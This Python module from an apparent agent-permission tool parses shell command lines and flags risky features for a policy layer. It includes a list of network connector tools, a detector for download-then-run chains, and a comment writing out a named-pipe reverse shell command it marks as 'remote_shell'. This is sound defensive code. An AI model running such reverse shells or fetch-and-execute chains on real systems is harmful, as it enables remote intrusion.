"""Read a shell command line and say what it may run, and what each command may do.

Guarantees:
  * every simple command that may run is listed, however it is nested, quoted, wrapped or encoded,
    as far as that is decidable from the line alone;
  * what is not decidable is said: feature "dynamic", marks "obfuscated" and "unparsed"; nothing is
    dropped silently, and a line that the grammar cannot read is scanned word by word instead;
  * bounded work: see the limits in `features`; the same line always gives the same answer.
Does not: run, resolve or touch anything; decide whether a command is allowed (policy).

Order of a read:
  1. check the input;  2. plain lines are split (scan.fast_stages), others parsed (syntax);
  3. words are expanded (words);  4. wrappers are peeled and inner texts read again from 2 (peel);
  5. each command is classified (classify, rules_*);  6. the line as a whole is looked at (here).
"""

from __future__ import annotations

from permit0.errors import InvalidInput
from permit0.model.values import ShellLine
from permit0.normalize.shell.arguments import split_arguments
from permit0.normalize.shell.features import FEATURES, MAX_LINE_BYTES
from permit0.normalize.shell.parts import Draft, Frame, State
from permit0.normalize.shell.rules_net import CURL_DATA
from permit0.normalize.shell.syntax import read_text
from permit0.normalize.shell.wrappers import INTERPRETERS, SHELLS

__all__ = ["CURL_DATA", "FEATURES", "parse_shell", "split_arguments"]

_ROOT = Frame()
_CONNECTORS = frozenset({"nc", "ncat", "netcat", "openssl", "telnet"})
_PIPE_MAKERS = frozenset({"mkfifo", "mknod"})
_CODE_RUNNERS = SHELLS | INTERPRETERS.keys()


def parse_shell(line: str) -> ShellLine:
    """Read one shell line or script text.

    Args:
        line: What the agent wants a POSIX shell or bash to run.

    Returns:
        Every command that may run, in the order of the text, and marks of the whole line.

    Raises:
        InvalidInput: with reason code shell_not_text, shell_nul, shell_bad_unicode,
            shell_too_long, shell_too_deep, shell_too_many_commands or shell_too_many_words.
    """
    # 1. The input.
    if type(line) is not str:
        raise InvalidInput("shell line is not text", reason_code="shell_not_text")
    if "\0" in line:
        raise InvalidInput("shell line holds a NUL character", reason_code="shell_nul")
    plain = line.isascii()
    text = line
    if not plain:
        try:
            text = line.encode("utf-8").decode("latin-1")
        except UnicodeEncodeError as error:
            raise InvalidInput(
                "shell line holds a lone surrogate", reason_code="shell_bad_unicode"
            ) from error
    if len(text) > MAX_LINE_BYTES:
        raise InvalidInput(
            f"shell line is longer than {MAX_LINE_BYTES} bytes; put it in a file",
            reason_code="shell_too_long",
        )
    # 2. to 5.
    state = State(read_text)
    try:
        read_text(state, text, _ROOT)
    except RecursionError as error:
        # MAX_DEPTH keeps a line of its own within the stack; the caller's stack may be deep too.
        raise InvalidInput(
            "shell line nests too deep to be read; split it", reason_code="shell_too_deep"
        ) from error
    # 6. The line as a whole.
    drafts = state.drafts
    if len(drafts) > 1:
        _relate(state, drafts)
    return ShellLine(
        commands=tuple([draft.freeze(_fix) for draft in drafts]), marks=frozenset(state.marks)
    )


def _fix(word: str) -> str:
    r"""A byte view back to text. Bytes that are no UTF-8 (from $'\\xff') stay visible."""
    if word.isascii():
        return word if type(word) is str else str(word)
    return word.encode("latin-1", "replace").decode("utf-8", "backslashreplace")


def _relate(state: State, drafts: list[Draft]) -> None:
    """What only several commands together show."""
    fetched: set[str] = set()
    decoded = False
    for draft in drafts:
        features = draft.features
        if fetched and ("script" in features or "interpreter_code" in features):
            used = {draft.program, *draft.reads, *draft.argv[:1]}
            if any(_same_file(a, b) for a in fetched for b in used):
                state.marks.add("download_to_interpreter")
        if "download" in features:
            fetched.update(draft.writes)
            fetched.update(url.rpartition("/")[2] for url in draft.urls if "/" in url)
            decoded = True
        elif decoded and draft.program == "chmod":
            fetched.update(draft.argv[1:])
    _name_remotes(drafts)
    # A named pipe ties a shell to a connection: mkfifo f; cat f | sh | nc host port > f
    programs = {draft.program for draft in drafts}
    if not programs.isdisjoint(_PIPE_MAKERS) and not programs.isdisjoint(_CODE_RUNNERS):
        for draft in drafts:
            if draft.program in _CONNECTORS:
                draft.features.add("remote_shell")


def _name_remotes(drafts: list[Draft]) -> None:
    """`git remote add x URL` says where a later `git push x` goes."""
    remotes: dict[str, list[str]] = {}
    for draft in drafts:
        if draft.program != "git":
            continue
        if draft.urls and "remote" in draft.argv:
            for word in draft.argv:
                if word not in draft.urls:
                    remotes[word] = draft.urls
        elif remotes and "upload" in draft.features:
            for word in draft.argv:
                draft.urls += remotes.get(word, ())


def _same_file(a: str, b: str) -> bool:
    return a != "" and a.rpartition("/")[2] == b.rpartition("/")[2]
